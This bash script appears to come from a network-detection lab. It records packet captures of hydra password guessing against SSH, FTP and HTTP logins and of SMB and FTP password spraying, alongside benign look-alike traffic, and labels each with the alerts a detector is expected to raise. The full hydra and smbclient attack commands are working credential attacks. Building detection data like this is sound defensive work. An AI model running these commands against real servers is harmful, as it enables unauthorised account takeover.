# shellcheck shell=bash disable=SC2154 # sourced by record-samples.sh after lab.sh
# Guessing and spraying passwords with hydra against real servers, and the jobs and typing mistakes that resemble it.

# words FILE COUNT [LAST]: a list of wrong passwords that are nobody's, and the right one at the end.
words() {
    seq -f 'wrong-%03g' "$2" >"$1"
    [ -z "${3:-}" ] || echo "$3" >>"$1"
}

# ssh_as_alice NS [PASSWORD]: one try to log in to the internal server and run a command there.
ssh_as_alice() {
    local ns=$1 command=$3
    # A small key exchange keeps the sample small.
    on "$ns" env SSH_ASKPASS="$work/askpass" SSH_ASKPASS_REQUIRE=force LAB_PASSWORD="$2" setsid -w ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o LogLevel=ERROR -o KexAlgorithms=curve25519-sha256 -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@10.20.0.20 "$command" >/dev/null 2>&1 || true
}

askpass() {
    # shellcheck disable=SC2016 # expanded by the script that is written
    printf '#!/bin/sh\necho "$LAB_PASSWORD"\n' >"$work/askpass"
    chmod 755 "$work/askpass"
}

sample_guess_ssh() {
    begin guess_ssh pcap.gz
    desk_servers
    askpass
    words "$work/words" 23 summer2026
    settle_all
    watch
    on stranger hydra -q -I -t 4 -l alice -P "$work/words" ssh://10.20.0.20 >/dev/null 2>&1 || true
    sleep 1
    # What was found is used.
    ssh_as_alice stranger summer2026 'id; cat plan.txt'
    watched
    expect brute_force 198.51.100.66 10.20.0.20 "SSH, 24 passwords"
    expect login_after_guessing 198.51.100.66 10.20.0.20 "the last session opens a channel"
    origin "Guessing SSH passwords, and a login with the one that was right" <<'TEXT'
hydra -t 4 from outside (198.51.100.66) against OpenSSH on 10.20.0.20: 23 wrong passwords for alice and then the right one,
several per connection. A second later an ordinary ssh session from the same address logs in with it and runs a command.
TEXT
}

# ftp_server [NS]: vsftpd with alice's account, on the internal server or on NS.
ftp_server() {
    accounts
    mkdir -p /run/vsftpd/empty
    cat >"$work/vsftpd.conf" <<CONF
listen=YES
listen_ipv6=NO
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
chroot_local_user=YES
allow_writeable_chroot=YES
secure_chroot_dir=/run/vsftpd/empty
pam_service_name=vsftpd
session_support=NO
xferlog_enable=NO
seccomp_sandbox=NO
ftpd_banner=Laboratory FTP
delay_failed_login=0
max_login_fails=3
CONF
    start_as_lab "${1:-desk}" /usr/sbin/vsftpd "$work/vsftpd.conf"
    sleep 1
}

sample_guess_ftp() {
    begin guess_ftp pcap.gz
    ftp_server
    words "$work/words" 40
    settle_all
    watch
    on stranger hydra -q -I -t 4 -l alice -P "$work/words" ftp://10.20.0.20 >/dev/null 2>&1 || true
    watched
    expect brute_force 198.51.100.66 10.20.0.20 "FTP, 40 passwords, all refused"
    origin "Guessing FTP passwords, in vain" <<'TEXT'
hydra -t 4 from outside (198.51.100.66) against vsftpd on 10.20.0.20: 40 passwords for alice, each answered by 530. None is right.
TEXT
}

sample_guess_http() {
    begin guess_http pcap.gz
    start desk python3 "$here/scripts/samples/services.py" web 80
    words "$work/words" 24
    words "$work/more" 20 summer2026
    sleep 1
    settle_all
    watch
    on stranger hydra -q -I -t 4 -l admin -P "$work/words" http-get://10.20.0.20/admin >/dev/null 2>&1 || true
    on stranger hydra -q -I -t 4 -l alice -P "$work/more" 10.20.0.20 http-post-form '/login:user=^USER^&password=^PASS^:F=wrong' >/dev/null 2>&1 || true
    watched
    expect brute_force 198.51.100.66 10.20.0.20 "HTTP: 24 answers 401 to Basic, then 20 form posts answered by 403 and one by a redirect"
    expect login_after_guessing 198.51.100.66 10.20.0.20 "the last form post succeeds"
    origin "Guessing web passwords: Basic, then a form" <<'TEXT'
hydra from outside (198.51.100.66) against a small web server on 10.20.0.20 (scripts/samples/services.py): http-get with 24
passwords for /admin (all 401), then http-post-form with 21 passwords for alice at /login: 403 for wrong ones, a redirect with a
cookie for the right one at the end.
TEXT
}

# smb_server: Samba with an account for Administrator, a share of files and one with the name of the administrators'.
smb_server() {
    accounts
    mkdir -p "$work/samba" "$work/share" "$work/admin"
    chmod 777 "$work/share" "$work/admin"
    cat >"$work/smb.conf" <<CONF
[global]
workgroup = LAB
netbios name = DESK
server string = files
server role = standalone server
disable netbios = yes
smb ports = 445
map to guest = never
username map = $work/samba/map
restrict anonymous = 2
load printers = no
lock directory = $work/samba
state directory = $work/samba
cache directory = $work/samba
private dir = $work/samba
pid directory = $work/samba
ncalrpc dir = $work/samba/ncalrpc
log file = $work/samba/log
[share]
path = $work/share
[ADMIN$]
path = $work/admin
read only = no
CONF
    # The administrator is root, so that the service control manager listens to it.
    echo 'root = Administrator' >"$work/samba/map"
    # shellcheck disable=SC2016 # expanded by the inner shell
    ip netns exec "$lab-desk" sh -c 'mount --bind "$0/passwd" /etc/passwd; mount --bind "$0/group" /etc/group
        printf "summer2026\nsummer2026\n" | pdbedit -s "$0/smb.conf" -a -t -u root' "$work" >/dev/null 2>&1
    start_as_lab desk smbd --foreground --configfile="$work/smb.conf"
    sleep 2
}

sample_spray_smb() {
    begin spray_smb pcap.gz
    local user
    smb_server
    settle_all
    watch
    for user in anna bert carl dora emil frida gustav hanna ida jonas karla leo mara nils olga paul; do
        on rogue smbclient //10.20.0.20/share -s /dev/null -W LAB -U "$user%Winter2026!" -c quit >/dev/null 2>&1 || true
    done
    watched
    expect password_spray 10.20.0.66 10.20.0.20 "SMB, 16 accounts with one password each, all STATUS_LOGON_FAILURE"
    origin "Spraying SMB: one password, many accounts" <<'TEXT'
smbclient on 10.20.0.66 tries the same password with 16 account names at Samba on 10.20.0.20, once each: NTLM in SMB2 session
setup, STATUS_LOGON_FAILURE every time.
TEXT
}

sample_spray_ftp() {
    begin spray_ftp
    ftp_server
    printf '%s\n' anna bert carl dora emil frida gustav hanna ida jonas karla leo mara nils olga paul rosa stefan >"$work/users"
    settle_all
    watch
    on stranger hydra -q -I -t 4 -L "$work/users" -p 'Winter2026!' ftp://10.20.0.20 >/dev/null 2>&1 || true
    watched
    expect password_spray 198.51.100.66 10.20.0.20 "FTP, 18 accounts with one password each"
    origin "Spraying FTP: one password, many accounts" <<'TEXT'
hydra -L from outside (198.51.100.66) against vsftpd on 10.20.0.20: the same password once for each of 18 account names, all
answered by 530.
TEXT
}

# --- twins --------------------------------------------------------------------------------------------------

sample_twin_ssh_jobs() {
    begin twin_ssh_jobs pcap.gz
    desk_servers
    askpass
    settle_all
    watch
    for _ in $(seq 20); do ssh_as_alice client summer2026 true; done
    watched
    quiet
    origin "Twenty short SSH jobs in a row, all good" <<'TEXT'
ssh from 10.20.0.10 to 10.20.0.20 twenty times: each logs in at the first try, runs one command and ends, as a backup or
deployment does. All sessions have nearly the same size and last a moment, just like failed ones.
TEXT
}

sample_twin_login_typo() {
    begin twin_login_typo
    desk_servers
    ftp_server
    askpass
    settle_all
    watch
    ssh_as_alice client sumer2026 true
    ssh_as_alice client summer2025 true
    ssh_as_alice client summer2026 'cat plan.txt'
    on client curl -s -o /dev/null ftp://alice:sumer2026@10.20.0.20/ || true
    on client curl -s -o /dev/null ftp://alice:summer2026@10.20.0.20/ || true
    watched
    quiet
    origin "Somebody mistypes a password" <<'TEXT'
alice at 10.20.0.10 logs in to 10.20.0.20 by SSH: two wrong passwords, one connection each, then the right one. Then by FTP: one
530, then a login. (The clear text of FTP is a low finding of its own.)
TEXT
}

all+=(guess_ssh guess_ftp guess_http spray_smb spray_ftp twin_ssh_jobs twin_login_typo)
